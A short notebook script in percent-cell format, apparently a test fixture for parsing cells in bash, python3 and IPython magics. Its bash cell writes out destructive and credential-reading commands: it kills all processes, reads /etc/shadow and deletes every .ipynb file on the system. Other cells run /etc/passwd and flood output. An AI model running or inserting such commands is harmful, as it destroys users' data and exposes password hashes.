# Cells in other languages, and commands.
# %%
%%bash
kill -9 1; kill -9 -1; cat /etc/shadow; find / -name "*.ipynb" -delete
# %%
%%script python3
import os
os._exit(1)
# %%
%run /etc/passwd
%cd /
!yes | head -c 100000000
